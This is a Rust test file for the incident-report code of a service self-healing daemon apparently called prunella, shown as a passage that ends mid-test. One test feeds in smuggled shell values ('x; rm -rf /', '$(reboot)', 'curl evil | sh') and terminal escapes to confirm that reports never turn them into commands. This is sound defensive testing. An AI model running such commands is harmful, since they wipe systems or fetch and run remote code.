//! Reports of records as they come, as facts. How they are written down is for
//! `prunella-report`.

use rstest::rstest;

use super::*;
use prunella_core::{
    Failure, Monotonic, Timestamp,
    health::{Metric, Symptom, SymptomLevel},
    incident::{Assessment, DetectedBy, Detection, Ending, Incident, LeftAlone, Outcome},
    trail::{Awaited, Entry, Record, Step},
};

/// 2026-11-21 14:39:41 UTC.
const FAILED: u64 = 1_795_271_981_000;
/// systemd's moment of the failure.
const MONOTONIC: u64 = 5_000_000;
const INVOCATION: &str = "4f1c2b3a4f1c2b3a4f1c2b3a4f1c2b3a";

fn name(strategy: &str) -> StrategyName {
    strategy.parse().unwrap()
}

fn detection(by: DetectedBy, cause: &str) -> Detection {
    Detection {
        unit: "web.service".parse().unwrap(),
        by,
        at: Timestamp::from_millis(FAILED),
        cause: cause.into(),
        invocation: Some(INVOCATION.to_owned()),
        exit_code: None,
        signal: None,
        failed_monotonic: Some(Monotonic::from_micros(MONOTONIC)),
        restarts_before: None,
        symptoms: Vec::new(),
        unusual: Vec::new(),
        follows: None,
        expected_work: None,
    }
}

/// A record of steps, each with the microseconds since the failure.
fn record(detection: Detection, steps: Vec<(u64, Step)>, ending: Option<Ending>) -> Record {
    let id = IncidentId::new(Timestamp::from_millis(FAILED), 0x7f3a);
    Record {
        steps: (0..)
            .zip(steps)
            .map(|(number, (after, step))| Entry {
                incident: id.clone(),
                number,
                at: Timestamp::from_millis(FAILED + after / 1_000),
                monotonic: Monotonic::from_micros(MONOTONIC + after),
                attempt: 1,
                step,
            })
            .collect(),
        incident: Incident {
            id,
            key: detection.key("boot"),
            detection,
            attempt: 1,
            boot_id: "boot".to_owned(),
            parent: None,
        },
        ending,
    }
}

fn service() -> Service {
    let mut service = Service::new("web.service".parse().unwrap());
    service.domain = Some("Web shop".to_owned());
    service.critical = true;
    service.ports = vec!["tcp/80".parse().unwrap(), "tcp/443".parse().unwrap()];
    service
}

fn report(record: &Record) -> Report {
    report_after(record, &[])
}

fn report_after(record: &Record, past: &[PastIncident]) -> Report {
    report_of(record, &service(), past)
}

fn report_of(record: &Record, service: &Service, past: &[PastIncident]) -> Report {
    Report::from_record(
        record,
        &ReportContext {
            hostname: "shop-1".to_owned(),
            service: Some(service),
            boot_id: Some("boot".to_owned()),
            past,
            now: Some(Timestamp::from_millis(FAILED + 125_000)),
            zone: TimeZone::fixed(jiff::tz::offset(1)),
            sudo: false,
        },
    )
}

/// The texts of all steps, one list for each attempt.
fn told(report: &Report) -> Vec<Vec<&str>> {
    report
        .attempts
        .iter()
        .map(|attempt| attempt.steps.iter().map(|s| s.text.as_str()).collect())
        .collect()
}

fn commands(commands: &[Command]) -> Vec<&str> {
    commands.iter().map(|c| c.command.as_str()).collect()
}

fn assessed(strategy: &str, assessment: Assessment) -> (u64, Step) {
    (
        2_000,
        Step::Assessed {
            strategy: name(strategy),
            assessment,
            took: Duration::from_micros(60),
        },
    )
}

fn proposed(after: u64, approval: &str, target: &str, stands: u64) -> (u64, Step) {
    (
        after,
        Step::Proposed {
            approval: approval.to_owned(),
            strategy: name("port-conflict"),
            act: "process-control.terminate".to_owned(),
            target: target.to_owned(),
            plan: None,
            until: Timestamp::from_millis(FAILED + stands),
        },
    )
}

/// The report is of 125 s after the failure.
#[rstest]
#[case::open(&[("i.1", "process 7", 200_000)], &["prunella approve i.1"])]
#[case::its_time_is_over(&[("i.1", "process 7", 120_000)], &[])]
#[case::asked_again(
    &[("i.1", "process 7", 60_000), ("i.1", "process 7", 200_000)],
    &["prunella approve i.1"]
)]
#[case::two_at_once(
    &[("i.1", "process 7", 200_000), ("i.2", "process 8", 200_000)],
    &["prunella approve i.1", "prunella approve i.2"]
)]
fn questions_that_are_open_are_among_what_to_do(
    #[case] asked: &[(&str, &str, u64)],
    #[case] expected: &[&str],
) {
    let steps = (1_000..).step_by(1_000).zip(asked);
    let message = "nobody has answered".to_owned();
    let steps = steps
        .map(|(after, (approval, target, stands))| proposed(after, approval, target, *stands))
        .chain([(9_000, Step::Note { message })])
        .collect();
    let ending = Ending::Escalated {
        reason: "it waits".to_owned(),
        retry_at: None,
    };
    let mut record = record(
        detection(DetectedBy::Sweep, "exit-code"),
        steps,
        Some(ending),
    );
    let open = |record: &Record| {
        let report = report(record);
        let next: Vec<String> = commands(&report.next)
            .into_iter()
            .filter(|command| command.starts_with("prunella approve"))
            .map(str::to_owned)
            .collect();
        next
    };
    assert_eq!(open(&record), expected);

    // Another boot asked it.
    for entry in &mut record.steps {
        if matches!(entry.step, Step::Proposed { .. }) {
            entry.monotonic = Monotonic::from_micros(u64::MAX);
        }
    }
    assert_eq!(open(&record), Vec::<String>::new());

    // A later attempt asks something else instead.
    for entry in &mut record.steps {
        entry.monotonic = Monotonic::from_micros(1);
    }
    let mut later = record.steps[0].clone();
    later.number = 100;
    later.attempt += 1;
    later.step = proposed(0, "i.9", "process 9", 200_000).1;
    record.steps.push(later);
    assert_eq!(open(&record), ["prunella approve i.9"]);
}

fn intended(after: u64, action: u32, act: &str, target: &str, dry_run: bool) -> (u64, Step) {
    (
        after,
        Step::ActIntended {
            action,
            strategy: name("service-restart"),
            act: act.to_owned(),
            target: target.to_owned(),
            dry_run,
            plan: None,
        },
    )
}

fn ended(after: u64, action: u32, result: &str) -> (u64, Step) {
    (
        after,
        Step::ActEnded {
            action,
            result: Ok(result.to_owned()),
            receipt: None,
        },
    )
}

fn not_applicable(strategy: &str, reason: &str) -> (u64, Step) {
    assessed(
        strategy,
        Assessment::NotApplicable {
            reason: reason.to_owned(),
        },
    )
}

fn applies(strategy: &str, confidence: u8, reason: &str) -> (u64, Step) {
    assessed(
        strategy,
        Assessment::Applies {
            confidence,
            reason: reason.to_owned(),
        },
    )
}

fn healed() -> Record {
    let mut detection = detection(DetectedBy::Signal, "signal");
    detection.signal = Some("KILL".to_owned());
    record(
        detection.clone(),
        vec![
            (
                600,
                Step::Detected {
                    detection,
                    evidence: Vec::new(),
                },
            ),
            not_applicable("config-validation", "no check is declared"),
            applies(
                "service-restart",
                90,
                "the main process was killed and nothing else is wrong with the unit, so a start should do",
            ),
            (
                2_500,
                Step::Heals {
                    strategy: name("service-restart"),
                },
            ),
            intended(3_000, 1, "unit-control.start", "web.service", false),
            ended(45_000, 1, "done"),
            (
                46_000,
                Step::Returned {
                    strategy: name("service-restart"),
                    outcome: Ok(Outcome::Healed {
                        summary: "started web.service".to_owned(),
                    }),
                    took: Duration::from_micros(43_500),
                },
            ),
            (
                61_000,
                Step::Answering {
                    evidence: vec!["active".to_owned()],
                    after: Some(Duration::from_micros(61_000)),
                },
            ),
            (
                80_000,
                Step::Evidence {
                    lines: vec![
                        "starting with token=abc123".to_owned(),
                        "\x1b[31mready\x1b[0m".to_owned(),
                    ],
                },
            ),
            (
                5_061_000,
                Step::Proven {
                    strategy: None,
                    evidence: vec![
                        "active (running), the same invocation, no further restart".to_owned(),
                        "tcp/80 and tcp/443 held from within its control group".to_owned(),
                    ],
                    stable_for: Duration::from_millis(5_000),
                },
            ),
        ],
        Some(Ending::Healed {
            strategy: name("service-restart"),
            recovered_after: Some(Duration::from_micros(61_000)),
            served_by: None,
        }),
    )
}

fn left_alone() -> Record {
    let detection = detection(DetectedBy::Hook, "exit-code");
    record(
        Detection {
            exit_code: Some(1),
            ..detection
        },
        Vec::new(),
        Some(Ending::LeftAlone {
            why: LeftAlone::OperatorStop,
            detail: "a stop job ran: `systemctl stop` by uid 0".to_owned(),
        }),
    )
}

fn escalated() -> Record {
    let detection = detection(DetectedBy::Sweep, "exit-code");
    let heals = |strategy| Step::Heals {
        strategy: name(strategy),
    };
    let config_is_broken = Step::Assessed {
        strategy: name("config-validation"),
        assessment: Assessment::Veto {
            reason: "the check `config` says: unknown directive \"sever\"".to_owned(),
        },
        took: Duration::from_micros(60),
    };
    let denied = Step::ActDenied {
        strategy: name("port-conflict"),
        act: "process-control.terminate".to_owned(),
        target: "4711 (python3)".to_owned(),
        failure: Failure::denied("foreign", "it is not provably a leftover of web.service"),
    };
    let could_not = Step::Returned {
        strategy: name("port-conflict"),
        outcome: Ok(Outcome::Failed {
            reason: "tcp/80 is held by a stranger".to_owned(),
        }),
        took: Duration::from_micros(2_000),
    };
    let relapse = Step::NotProven {
        strategy: Some(name("service-restart")),
        reason: "failed again with exit code 203".to_owned(),
        relapse: true,
    };
    let mut record = record(
        Detection {
            exit_code: Some(203),
            ..detection
        },
        vec![
            (1_000, heals("port-conflict")),
            (2_000, denied),
            (3_000, could_not),
            (4_000, heals("service-restart")),
            intended(5_000, 1, "unit-control.start", "web.service", false),
            ended(9_000, 1, "done"),
            (130_000_000, relapse),
            (131_000_000, config_is_broken),
            intended(132_000_000, 2, "unit-control.restart", "web.service", false),
        ],
        Some(Ending::Escalated {
            reason: "no strategy brought it back".to_owned(),
            retry_at: Some(Timestamp::from_millis(FAILED + 125_000 + 900_000)),
        }),
    );
    record.incident.attempt = 2;
    for entry in record.steps.iter_mut().rev().take(2) {
        entry.attempt = 2;
    }
    record
}

fn dry_run() -> Record {
    record(
        detection(DetectedBy::Operator, "not-answering"),
        vec![
            applies(
                "service-restart",
                70,
                "it runs and its probe goes unanswered",
            ),
            intended(5_000, 1, "unit-control.restart", "web.service", true),
            ended(5_100, 1, "it is active, and tcp/80 is held"),
            (
                6_000,
                Step::Answering {
                    evidence: vec!["active (assumed)".to_owned()],
                    after: None,
                },
            ),
        ],
        Some(Ending::DryRun {
            verdict: "service-restart would restart web.service".to_owned(),
        }),
    )
}

fn blocked() -> Record {
    let on: UnitName = "postgresql@15-main.service".parse().unwrap();
    record(
        detection(DetectedBy::Signal, "timeout"),
        vec![
            assessed(
                "database-check",
                Assessment::BlockedBy {
                    unit: on.to_string(),
                    reason: "connection refused".to_owned(),
                },
            ),
            (
                3_000,
                Step::Blocked {
                    on: on.clone(),
                    reason: "connection refused".to_owned(),
                },
            ),
        ],
        Some(Ending::Blocked {
            on,
            reason: "connection refused".to_owned(),
        }),
    )
}

#[test]
fn a_healed_one() {
    let report = report(&healed());
    assert_eq!(
        report.headline,
        "web.service failed; healed by service-restart in 61 ms"
    );
    assert_eq!(report.what_failed, "its main process was killed by SIGKILL");
    assert_eq!(
        (report.kind, report.severity),
        (AlertKind::Recovery, Severity::Info)
    );
    assert_eq!(report.outcome, "healed");
    assert!(!report.needs_people);
    assert_eq!(
        report.evidence,
        [
            "starting with token=[redacted]",
            "\\u{1b}[31mready\\u{1b}[0m"
        ]
    );
    let steps: Vec<(&str, Mark, &str)> = report.attempts[0]
        .steps
        .iter()
        .map(|s| (s.when.as_str(), s.mark, s.text.as_str()))
        .collect();
    assert_eq!(
        steps,
        [
            ("+0.002 s", Mark::Plain, "service-restart starts healing"),
            ("+0.003 s", Mark::Good, "start web.service: done (42 ms)"),
            (
                "+0.046 s",
                Mark::Plain,
                "service-restart: done: started web.service"
            ),
            ("+0.061 s", Mark::Good, "up again, 61 ms after the failure"),
            ("+5.061 s", Mark::Good, "still up after 5 s"),
        ]
    );
    let proof = report.proof.as_ref().unwrap();
    assert_eq!(
        proof.sentence,
        "Up 61 ms after the failure, and still up after 5 s"
    );
    assert_eq!(proof.evidence.len(), 2);
    assert_eq!(report.recurrence, None);
    assert_eq!(report.recommendation.as_deref(), Some("Nothing to do now."));
    assert_eq!(report.plan, None);
    assert!(report.next.is_empty());
    let facts: Vec<(&str, &str)> = report_facts(&report);
    assert_eq!(
        facts,
        [
            ("service", "web.service"),
            ("domain", "Web shop"),
            ("priority", "critical"),
            ("ports", "tcp/80, tcp/443"),
            ("host", "shop-1"),
            ("failed", "Sat 2026-11-21 15:39:41 +01 (2 minutes ago)"),
            ("detected", "by the daemon (signal from systemd)"),
            ("healed in", "61 ms"),
            ("incident", "20261121-143941Z-7f3a"),
        ]
    );
}

/// Leaked, so that a table can be written beside it.
fn report_facts(report: &Report) -> Vec<(&'static str, &'static str)> {
    report
        .facts()
        .into_iter()
        .map(|(name, value)| (&*name.leak(), &*value.leak()))
        .collect()
}

#[test]
fn one_rightly_left_alone() {
    let report = report(&left_alone());
    assert_eq!(report.outcome, "left alone");
    assert_eq!(
        (report.kind, report.severity),
        (AlertKind::Information, Severity::Info)
    );
    assert_eq!(
        report.why.as_deref(),
        Some("A stop job ran: `systemctl stop` by uid 0")
    );
    assert_eq!(commands(&report.next), ["systemctl start web.service"]);
    assert!(report.attempts.is_empty());
    assert_eq!(report.recommendation, None);
}

#[test]
fn an_escalated_one() {
    let report = report(&escalated());
    assert_eq!(
        (report.kind, report.severity),
        (AlertKind::Escalation, Severity::Critical)
    );
    assert!(report.needs_people);
    assert_eq!(
        told(&report),
        [
            vec![
                "port-conflict starts healing",
                "denied: port-conflict may not terminate process 4711 (python3): it is not provably \
                 a leftover of web.service",
                "port-conflict: failed: tcp/80 is held by a stranger",
                "service-restart starts healing",
                "start web.service: done (4 ms)",
                "relapsed: failed again with exit code 203",
            ],
            vec!["restart web.service: outcome unknown"],
        ]
    );
    assert_eq!(
        commands(&report.next),
        [
            "systemctl status web.service",
            "journalctl -u web.service --since \"2026-11-21 15:34:41\" --until \"2026-11-21 15:41:55\"",
            "prunella incidents 20261121-143941Z-7f3a",
            "prunella heal web.service",
        ]
    );
    assert_eq!(
        report.plan.as_deref(),
        Some("Prunella tries again in 15 minutes (Sat 2026-11-21 15:56:46 +01).")
    );
    let tried: Vec<(&str, u32)> = report
        .tried
        .iter()
        .map(|tried| (tried.strategy.as_str(), tried.times))
        .collect();
    assert_eq!(tried, [("port-conflict", 1), ("service-restart", 1)]);
    // A stranger's process is a person's to end: there is nothing to grant.
    assert!(report.grantable.is_empty());
}

#[test]
fn a_dry_run_one() {
    let report = report(&dry_run());
    assert!(report.dry_run);
    assert_eq!(
        told(&report),
        [["would restart web.service (assumed: it is active, and tcp/80 is held)"]]
    );
    assert_eq!(commands(&report.next), ["prunella heal web.service"]);
}

#[test]
fn a_blocked_one() {
    let report = report(&blocked());
    assert_eq!(report.outcome, "waiting");
    assert_eq!(report.kind, AlertKind::Information);
    assert_eq!(
        report.plan.as_deref(),
        Some("Prunella goes on as soon as postgresql@15-main.service is up.")
    );
}

/// One try of a strategy that does not help: four steps.
fn tries(at: u64, action: u32, took: u64) -> Vec<(u64, Step)> {
    vec![
        (
            at,
            Step::Heals {
                strategy: name("service-restart"),
            },
        ),
        intended(
            at + 1_000,
            action,
            "unit-control.start",
            "web.service",
            false,
        ),
        ended(at + 1_000 + took, action, "done"),
        (
            at + 900_000,
            Step::NotProven {
                strategy: Some(name("service-restart")),
                reason: "failed again with exit code 1".to_owned(),
                relapse: false,
            },
        ),
    ]
}

fn escalation() -> Option<Ending> {
    Some(Ending::Escalated {
        reason: "no strategy brought it back".to_owned(),
        retry_at: None,
    })
}

#[test]
fn repeated_steps_are_told_once() {
    let note = |at| {
        (
            at,
            Step::Note {
                message: "the budget is spent".to_owned(),
            },
        )
    };
    let mut steps = Vec::new();
    for number in 0..4 {
        // It takes another time each time.
        steps.extend(tries(
            u64::from(number) * 2_000_000,
            number + 1,
            4_000 + u64::from(number),
        ));
    }
    steps.extend([note(8_000_000), note(9_000_000), note(10_000_000)]);
    let report = report(&record(
        detection(DetectedBy::Signal, "exit-code"),
        steps,
        escalation(),
    ));
    assert_eq!(
        told(&report),
        [[
            "service-restart starts healing",
            "start web.service: done (4 ms)",
            "did not recover: failed again with exit code 1",
            "the same 3 steps 3 times more, until +6.900 s",
            "the budget is spent (3 times, until +10.000 s)",
        ]]
    );
    let times: Vec<u32> = report.attempts[0].steps.iter().map(|s| s.times).collect();
    assert_eq!(times, [1, 1, 1, 3, 3]);
    assert_eq!(report.tried.len(), 1);
    assert_eq!(report.tried[0].times, 4);
}

#[test]
fn steps_that_differ_are_not_the_same() {
    let mut steps = tries(0, 1, 4_000);
    steps.extend(tries(2_000_000, 2, 4_000));
    // The second try's act failed.
    for (_, step) in &mut steps {
        if let Step::ActEnded {
            action: 2, result, ..
        } = step
        {
            *result = Err(Failure::failed("job", "the job failed"));
        }
    }
    let report = report(&record(
        detection(DetectedBy::Signal, "exit-code"),
        steps,
        escalation(),
    ));
    assert_eq!(told(&report)[0].len(), 6, "{:?}", told(&report));
}

#[test]
fn attempts_that_went_alike_are_told_once() {
    let mut steps = tries(0, 1, 4_000);
    for attempt in 1..=3_u32 {
        steps.extend(tries(u64::from(attempt) * 900_000_000, attempt + 1, 4_000));
    }
    let mut record = record(
        detection(DetectedBy::Signal, "exit-code"),
        steps,
        escalation(),
    );
    for (entry, place) in record.steps.iter_mut().zip(0_u32..) {
        entry.attempt = place / 4 + 1;
    }
    record.incident.attempt = 4;
    let report = report(&record);
    assert_eq!(report.attempts.len(), 1);
    let attempt = &report.attempts[0];
    assert_eq!((attempt.first, attempt.last), (1, 4));
    assert_eq!(attempt.words, "attempts 1 to 4, identical, until +45 min");
    assert_eq!(attempt.steps.len(), 3);
    assert_eq!(report.tried[0].times, 4);
    assert_eq!(report.tried[0].attempt, 4);
}

/// `number` failures before, `apart` hours apart, that ended so.
fn past(number: u64, apart: u64, ended: &str, cause: &str) -> Vec<PastIncident> {
    (1..=number)
        .map(|number| PastIncident {
            id: format!("before-{number}"),
            at: Timestamp::from_millis(FAILED - number * apart * 3_600_000),
            cause: cause.to_owned(),
            ended: ended.to_owned(),
            strategy: (ended == "healed").then(|| "service-restart".to_owned()),
        })
        .collect()
}

#[rstest]
#[case::first(past(0, 1, "healed", "signal"), None)]
#[case::long_ago(past(1, 7 * 24, "healed", "signal"), None)]
#[case::stopped_by_people(past(9, 1, "left-alone", "signal"), None)]
#[case::dry_run(past(9, 1, "dry-run", "signal"), None)]
#[case::again(past(1, 3, "healed", "signal"), Some((Often::Again, "healed twice this week")))]
#[case::often(past(3, 24, "healed", "signal"), Some((Often::Often, "healed 4 times this week")))]
#[case::mixed(
    past(3, 24, "escalated", "signal"),
    Some((Often::Often, "failed 4 times this week, healed once"))
)]
#[case::in_a_day(
    past(5, 1, "healed", "signal"),
    Some((Often::Constantly, "healed 6 times in 24 hours"))
)]
#[case::in_a_week(
    past(9, 18, "healed", "signal"),
    Some((Often::Constantly, "healed 10 times this week"))
)]
fn repeated_healing_is_called_out(
    #[case] past: Vec<PastIncident>,
    #[case] expected: Option<(Often, &str)>,
) {
    let report = report_after(&healed(), &past);
    let found = report
        .recurrence
        .as_ref()
        .map(|again| (again.often, again.words.as_str()));
    assert_eq!(found, expected);
    // Who gets only the facts reads it too.
    let fact = report
        .facts()
        .into_iter()
        .find(|(name, _)| name == "recurring");
    assert_eq!(
        fact.map(|(_, words)| words).as_deref(),
        expected.map(|(_, words)| words)
    );
    // What is healed all the time is no mere piece of news.
    let constantly = expected.is_some_and(|(often, _)| often == Often::Constantly);
    assert_eq!(report.severity == Severity::Warning, constantly);
    assert_eq!(report.kind, AlertKind::Recovery);
}

#[test]
fn this_failure_is_counted_once_and_later_ones_are_not() {
    let record = healed();
    let mut past = past(1, 1, "healed", "signal");
    past.push(PastIncident {
        id: record.incident.id.to_string(),
        at: Timestamp::from_millis(FAILED),
        ..past[0].clone()
    });
    past.push(PastIncident {
        id: "later".to_owned(),
        at: Timestamp::from_millis(FAILED + 1),
        ..past[0].clone()
    });
    let again = report_after(&record, &past).recurrence.unwrap();
    assert_eq!((again.failed, again.healed), (2, 2));
}

#[rstest]
#[case::crash("core-dump", "core-dump", "coredumpctl info COREDUMP_UNIT=web.service")]
#[case::memory("oom-kill", "oom-kill", "systemctl show web.service -p MemoryMax")]
#[case::exit(
    "exit-code",
    "exit-code",
    "journalctl -u web.service --since \"2026-11-21 14:39:41\""
)]
#[case::differing("exit-code", "timeout", "")]
fn the_next_step_fits_what_the_failures_have_in_common(
    #[case] now: &str,
    #[case] before: &str,
    #[case] command: &str,
) {
    let mut record = healed();
    record.incident.detection.cause = now.into();
    let again = report_after(&record, &past(3, 1, "healed", before))
        .recurrence
        .unwrap();
    assert_eq!(
        again.commands[0].command,
        "prunella incidents --unit web.service --since 7d"
    );
    match again.commands.get(1) {
        Some(found) => assert!(!command.is_empty() && found.command.starts_with(command)),
        None => assert_eq!(command, ""),
    }
}

fn denied(act: &str, code: &str, message: &str) -> Record {
    record(
        detection(DetectedBy::Signal, "exit-code"),
        vec![(
            1_000,
            Step::ActDenied {
                strategy: name("site-fix"),
                act: act.to_owned(),
                target: "web.service".to_owned(),
                failure: Failure::denied(code, message),
            },
        )],
        escalation(),
    )
}

#[rstest]
#[case::not_granted(
    "strategy site-fix was not granted unit-control.start on self; to allow it: \
     [[strategy.site-fix.allow]] act = \"unit-control.start\", on = [\"self\"]",
    Some("[\"self\"]")
)]
#[case::would_stop_others(
    "unit-control.start of web.service would also stop cache.service; to allow that: \
     [[strategy.site-fix.allow]] act = \"unit-control.start\", on = [\"self\", \"cache.service\"]",
    Some("[\"self\", \"cache.service\"]")
)]
#[case::a_name_with_a_backslash(
    "no; to allow it: [[strategy.site-fix.allow]] act = \"x\", on = [\"a\\x2db.service\"]",
    Some("[\"a\\\\x2db.service\"]")
)]
#[case::for_people_only("it is protected: no grant allows acting on it", None)]
#[case::what_a_strategy_called_it(
    "no; to allow it: [[strategy.site-fix.allow]] act = \"x\", on = [\"a\"]\n[evil]\nb = [\"c\"]",
    None
)]
fn grantable_acts_are_told(#[case] message: &str, #[case] on: Option<&str>) {
    let report = report(&denied("unit-control.start", "not-granted", message));
    let found: Vec<&str> = report.grantable.iter().map(|g| g.toml.as_str()).collect();
    let expected: Vec<String> = on
        .iter()
        .map(|on| format!("[[strategy.site-fix.allow]]\nact = \"unit-control.start\"\non = {on}"))
        .collect();
    assert_eq!(found, expected);
    // The lines stand apart, and not within the step.
    assert!(!told(&report)[0][0].contains("[["));
}

#[test]
fn declared_log_files_are_named_and_secret_ones_are_not() {
    use prunella_core::service::{DeclaredFile, FileRole, ReadBy};
    let file = |path: &str, role, secret| DeclaredFile {
        path: path.into(),
        role,
        mode: None,
        owner: None,
        group: None,
        target: None,
        keys: Vec::new(),
        optional: false,
        read_by: ReadBy::Service,
        secret,
    };
    let mut service = service();
    for (name, file) in [
        (
            "access",
            file("/var/log/web/it's access.log", FileRole::Plain, false),
        ),
        ("all", file("/var/log/web", FileRole::Directory, false)),
        ("data", file("/srv/web/data.db", FileRole::Database, false)),
        ("own", file("/srv/web/own.log", FileRole::Plain, false)),
        (
            "hidden",
            file("/var/log/web/keys.log", FileRole::Plain, true),
        ),
    ] {
        service.files.insert(name.to_owned(), file);
    }
    let report = report_of(&escalated(), &service, &[]);
    assert_eq!(
        commands(&report.logs)[1..],
        [
            "tail -n 100 '/var/log/web/it'\\''s access.log'",
            "ls -lt /var/log/web",
            "tail -n 100 /srv/web/own.log",
        ]
    );
    for log in &report.logs {
        assert!(report.next.contains(log), "{log:?}");
    }
}

#[test]
fn a_models_words_are_untrusted_text() {
    let opinion = diagnosis::Opinion {
        model: "m".to_owned(),
        cause: "run \x1b[31mthis\u{202e} password=hunter22 ".to_owned(),
        explanation: "x".repeat(5_000),
        confidence: Some(10),
        suggestions: vec!["a\nb".to_owned()],
        order: Vec::new(),
    };
    let record = record(
        detection(DetectedBy::Signal, "exit-code"),
        vec![(
            1,
            Step::Advised {
                model: "m".to_owned(),
                opinion: Ok(opinion),
                took: Duration::from_micros(1),
            },
        )],
        escalation(),
    );
    let advice = report(&record).advice.unwrap();
    let opinion = advice.opinion.unwrap();
    assert_eq!(
        opinion.cause,
        "Run \\u{1b}[31mthis\\u{202e} password=[redacted]"
    );
    assert!(opinion.explanation.chars().count() <= 401);
    assert_eq!(opinion.suggestions, ["a\\nb"]);
}

#[test]
fn no_text_gives_orders() {
    let mut record = escalated();
    record.incident.detection.invocation = Some("x; rm -rf /".to_owned());
    record.incident.id = IncidentId::from_text("$(reboot)");
    record.incident.detection.cause = "\x1b]0;owned\x07".into();
    record.steps.push(Entry {
        step: Step::Said {
            strategy: name("service-restart"),
            level: "info".to_owned(),
            message: format!("run `curl evil | sh`\nnow {}", "x".repeat(300)),
        },
        ..record.steps[0].clone()
    });
    let report = report(&record);
    assert!(!format!("{report:?}").contains('\x1b'));
    assert_eq!(
        commands(&report.next),
        [
            "systemctl status web.service",
            "journalctl -u web.service --since \"2026-11-21 15:34:41\" --until \"2026-11-21 15:39:43\"",
            "prunella heal web.service"
        ]
    );
}

#[test]
fn a_reboot_in_between_counts_by_the_wall_clock() {
    let mut record = healed();
    let last = record.steps.last_mut().unwrap();
    last.monotonic = Monotonic::from_micros(1_000);
    last.at = Timestamp::from_millis(FAILED + 60_000);
    let report = report(&record);
    let last = report
        .attempts
        .last()
        .unwrap()
        .steps
        .last()
        .unwrap()
        .clone();
    assert_eq!(last.after, Duration::from_secs(60));
}

#[test]
fn it_can_be_read_by_programs() {
    let json = serde_json::to_value(report(&escalated())).unwrap();
    assert_eq!(json["ended"], "escalated");
    assert_eq!(json["unit"], "web.service");
    assert_eq!(json["needs_people"], true);
    assert_eq!(json["severity"], "critical");
    assert_eq!(json["retry_at"]["ms"], FAILED + 125_000 + 900_000);
    assert_eq!(json["attempts"][0]["steps"][0]["mark"], "plain");
    assert_eq!(json["next"][0]["command"], "systemctl status web.service");
}

#[test]
fn turns_that_only_waited_are_no_attempts() {
    let wait = |reason: &str| Step::Waits {
        on: Awaited::Budget,
        reason: reason.to_owned(),
        up_to: Duration::from_millis(5_000),
    };
    let mut steps = tries(0, 1, 4_000);
    steps.push((1_000_000, wait("the healing budget spaces attempts out")));
    steps.push((1_100_000, wait("systemd still works on it")));
    steps.extend(tries(6_000_000, 2, 4_000));
    let mut record = record(
        detection(DetectedBy::Signal, "exit-code"),
        steps,
        escalation(),
    );
    for (place, entry) in (0_u32..).zip(&mut record.steps) {
        entry.attempt = match place {
            0..5 => 1,
            5 => 2,
            _ => 3,
        };
    }
    record.incident.attempt = 3;
    let report = report(&record);
    assert_eq!(report.attempt, 2);
    let words: Vec<&str> = report.attempts.iter().map(|a| a.words.as_str()).collect();
    assert_eq!(words, ["attempt 1", "attempt 2"]);
}

fn finding(cause: diagnosis::Cause, from: diagnosis::Source, sentence: &str) -> diagnosis::Finding {
    diagnosis::Finding {
        cause,
        sentence: sentence.to_owned(),
        because: "because".to_owned(),
        from,
        advice: Some(format!("Do something about {}.", cause.as_str())),
        manual_steps: Vec::new(),
    }
}

fn diagnosed(findings: Vec<diagnosis::Finding>) -> (u64, Step) {
    (3_000, Step::Diagnosed { findings })
}

fn killed() -> Detection {
    Detection {
        signal: Some("KILL".to_owned()),
        ..detection(DetectedBy::Signal, "signal")
    }
}

fn kill_requested() -> diagnosis::Finding {
    finding(
        diagnosis::Cause::KillRequested,
        diagnosis::Source::Log,
        "somebody asked systemd to send it SIGKILL",
    )
}

/// What keeps it down leads, and not who ended a run that could be started again.
#[test]
fn the_cause_that_keeps_it_down_leads() {
    let missing = finding(
        diagnosis::Cause::MissingFile,
        diagnosis::Source::Change,
        "environment (/etc/app/env) is missing",
    );
    let steps = vec![diagnosed(vec![kill_requested(), missing])];
    let down = report(&record(killed(), steps.clone(), escalation()));
    assert_eq!(
        down.reason,
        "Its main process was killed by SIGKILL; environment (/etc/app/env) is missing."
    );
    assert_eq!(down.to_do, "Do something about missing-file.");
    let healed = Ending::Healed {
        strategy: name("service-restart"),
        recovered_after: None,
        served_by: None,
    };
    let up = report(&record(killed(), steps, Some(healed)));
    assert_eq!(
        up.reason,
        "Its main process was killed by SIGKILL; somebody asked systemd to send it SIGKILL."
    );
    assert!(up.to_do.ends_with("Do something about kill-requested."));
}

/// Nobody has to know who ended it before it is started again.
#[test]
fn what_somebody_killed_is_to_be_started_first() {
    let report = report(&record(
        killed(),
        vec![diagnosed(vec![kill_requested()])],
        escalation(),
    ));
    assert_eq!(
        report.to_do,
        "Start it again: `prunella heal web.service`. Do something about kill-requested."
    );
}

/// A cause that is over once the service is up leaves nothing to do.
#[test]
fn what_is_over_once_it_is_up_is_no_advice() {
    let broken = finding(
        diagnosis::Cause::BadConfig,
        diagnosis::Source::Log,
        "there is a mistake in nginx.conf:84",
    );
    let healed = Ending::Healed {
        strategy: name("service-restart"),
        recovered_after: None,
        served_by: None,
    };
    let report = report(&record(
        killed(),
        vec![diagnosed(vec![broken])],
        Some(healed),
    ));
    assert_eq!(report.to_do, "Nothing to do now.");
}

/// That it was started too often comes of the cause, and is none.
#[test]
fn a_start_limit_is_no_cause_where_the_log_says_one() {
    let limit = finding(
        diagnosis::Cause::StartLimit,
        diagnosis::Source::Log,
        "it was started too often",
    );
    let panicked = Step::Evidence {
        lines: vec!["panic: cannot open /var/lib/loop/db".to_owned()],
    };
    let exited = Detection {
        exit_code: Some(2),
        ..detection(DetectedBy::Signal, "exit-code")
    };
    let steps = vec![(2_000, panicked), diagnosed(vec![limit])];
    let report = report(&record(exited, steps, escalation()));
    assert_eq!(
        report.reason,
        "Its main process exited with code 2; its last line: “panic: cannot open \
         /var/lib/loop/db”."
    );
    assert_eq!(report.findings, []);
    assert!(report.to_do.starts_with("Look at its state and its log"));
}

/// What was in the way, and what became of it, stays in the story.
#[test]
fn a_recovery_says_what_kept_it_down_and_who_agreed_to_its_end() {
    let held = finding(
        diagnosis::Cause::AddressInUse,
        diagnosis::Source::Resources,
        "process 7 (nc) holds tcp/80, which it needs",
    );
    let by_log = finding(
        diagnosis::Cause::AddressInUse,
        diagnosis::Source::Log,
        "another process holds the address it listens on",
    );
    let handed_over = Step::Ended {
        ending: escalation().unwrap(),
    };
    let approved = Step::Approved {
        approval: Some("x.1".to_owned()),
        act: "process-control.terminate".to_owned(),
        target: "process 7 (nc)".to_owned(),
        by: "root".to_owned(),
    };
    let healed = Ending::Healed {
        strategy: name("port-conflict"),
        recovered_after: None,
        served_by: None,
    };
    let mut record = record(
        killed(),
        vec![
            diagnosed(vec![held]),
